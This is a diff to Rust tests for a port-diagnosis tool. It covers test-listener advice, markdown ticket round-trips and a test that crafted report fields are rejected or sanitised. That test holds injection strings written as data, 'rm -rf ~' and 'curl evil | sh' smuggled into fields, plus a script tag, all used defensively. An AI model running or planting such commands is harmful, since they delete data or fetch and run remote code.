@@ -254,10 +254,26 @@ fn this_computer_is_named_in_plain_words() {
         text.headline,
         "No program is answering on port 8080 of this computer."
     );
+    // Tried at 127.0.0.1, which no other computer can reach: a test listener there
+    // would prove nothing.
+    assert!(
+        !first
+            .actions
+            .contains(&portdoctor_core::finding::Action::OpenTestListener)
+    );
+    // At an address of this computer that others use, it tells the way from them.
+    let mut lan = facts(
+        "192.168.1.5:8080",
+        &[("192.168.1.5", ProbeOutcome::Refused, None)],
+    );
+    lan.target.this_computer = true;
+    let first = &diagnose(&lan)[0];
     assert!(
         first
             .actions
-            .contains(&portdoctor_core::finding::Action::OpenTestListener)
+            .contains(&portdoctor_core::finding::Action::OpenTestListener),
+        "{:?}",
+        first.actions
     );
 }
 
@@ -295,7 +311,7 @@ fn reports_render_in_three_formats_and_survive_a_round_trip() {
     }
     let meta = ReportMeta {
         id: "ABCD-EFGH".into(),
-        created: "x".into(),
+        created: "2026-12-02T00:10:00Z".into(),
         tool_version: "0".into(),
         os: "linux".into(),
         lang: "en".into(),
@@ -309,6 +325,73 @@ fn reports_render_in_three_formats_and_survive_a_round_trip() {
         r.render_text(&c)
             .contains("no-listener (likely): 192.0.2.5:5432 refused in 0.5 ms")
     );
+}
+
+#[test]
+fn a_ticket_file_opens_like_the_json_and_carries_earlier_checks() {
+    let c = Catalog::english();
+    for (name, _, json) in RECORDED {
+        let mut report = Report::open(json, &c).unwrap();
+        report.earlier = vec![portdoctor_core::report::Earlier {
+            created: "2026-12-02T00:10:00Z".into(),
+            code: "no-listener".into(),
+            status: portdoctor_core::view::Status::Problem,
+        }];
+        let ticket = report.render_markdown(&c);
+        let opened = Report::open(&ticket, &c).unwrap_or_else(|e| panic!("{name}: {e}"));
+        assert_eq!(
+            opened, report,
+            "{name}: the ticket file holds the whole report"
+        );
+        let origin = opened.view(&c).provenance;
+        assert_eq!(origin.earlier.len(), 1);
+        assert!(
+            origin
+                .lines
+                .iter()
+                .any(|l| l
+                    == "Checked before, on 2026-12-02 00:10 UTC: Problem found (no-listener)."),
+            "{:?}",
+            origin.lines
+        );
+        // Text pasted around it (a ticket system's own lines) changes nothing.
+        let wrapped = format!("Re: ticket 4711\n\n{ticket}\n-- \nHelpdesk");
+        assert_eq!(Report::open(&wrapped, &c).unwrap(), report, "{name}");
+    }
+    let plain = "# Notes\n\nNo data here.\n";
+    assert_eq!(
+        Report::open(plain, &c).unwrap_err().to_string(),
+        "neither a report file (JSON) nor a ticket file with the report's data in it"
+    );
+}
+
+#[test]
+fn a_crafted_header_is_refused_or_made_harmless() {
+    let c = Catalog::english();
+    let json = include_str!("fixtures/reports/linux-refused.json");
+    let mut v: serde_json::Value = serde_json::from_str(json).unwrap();
+    v["id"] = "; rm -rf ~".into();
+    assert!(Report::open(&v.to_string(), &c).is_err(), "a bad ID");
+    let mut v: serde_json::Value = serde_json::from_str(json).unwrap();
+    v["created"] = "yesterday\u{202e}".into();
+    assert!(Report::open(&v.to_string(), &c).is_err(), "a bad time");
+    let mut v: serde_json::Value = serde_json::from_str(json).unwrap();
+    v["os"] = "linux; curl evil | sh".into();
+    v["tool_version"] = "1.0 <script>".into();
+    v["earlier"] = serde_json::json!([
+        { "created": "2026-12-02T00:10:00Z", "code": "made-up", "status": "ok" },
+        { "created": "soon", "code": "no-listener", "status": "ok" },
+        { "created": "2026-12-02T00:11:00Z", "code": "reachable", "status": "ok" }
+    ]);
+    let r = Report::open(&v.to_string(), &c).unwrap();
+    assert_eq!(r.meta.os, "unknown");
+    assert_eq!(r.meta.tool_version, "1.0script");
+    assert_eq!(
+        r.earlier.len(),
+        1,
+        "only the earlier check that is what it says"
+    );
+    assert_eq!(r.earlier[0].code, "reachable");
 }
 
 #[test]
